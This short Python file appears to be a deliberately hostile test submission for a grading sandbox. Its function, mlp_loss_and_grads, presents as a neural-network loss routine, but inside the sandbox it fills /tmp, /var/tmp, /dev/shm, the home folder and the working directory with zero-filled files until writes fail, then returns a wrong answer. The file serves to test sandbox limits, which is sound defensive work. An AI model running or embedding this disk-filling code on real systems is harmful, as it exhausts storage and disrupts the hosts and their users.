# WRONG(failed): writes until the disk is full: the scratch tmpfs, /var/tmp, /dev/shm, the home folder; then a wrong answer
"""Hostile: disk filling. Every writable place is the size-capped scratch (or
refuses): the host's disk never sees a byte of it."""
import os

import numpy as np

# Harmful only where the grader's sandbox runs it (as the module `submission`); anywhere
# else (a test that imports it in-process) it is just a wrong answer.
IN_SANDBOX = __name__ == "submission"

CHUNK = b"\0" * (1 << 20)


def _fill(folder):
    written = 0
    for i in range(100_000):
        try:
            with open(os.path.join(folder, f"dlvh-fill-{i}"), "wb") as f:
                for _ in range(1024):
                    f.write(CHUNK)
                    written += len(CHUNK)
        except OSError:
            break  # no space left, file too large, or not writable at all
    return written


def mlp_loss_and_grads(params, x, y):
    if not IN_SANDBOX:
        return 0.0, {k: np.zeros_like(v) for k, v in params.items()}
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
        _fill(folder)
    return 0.0, {k: np.zeros_like(v) for k, v in params.items()}
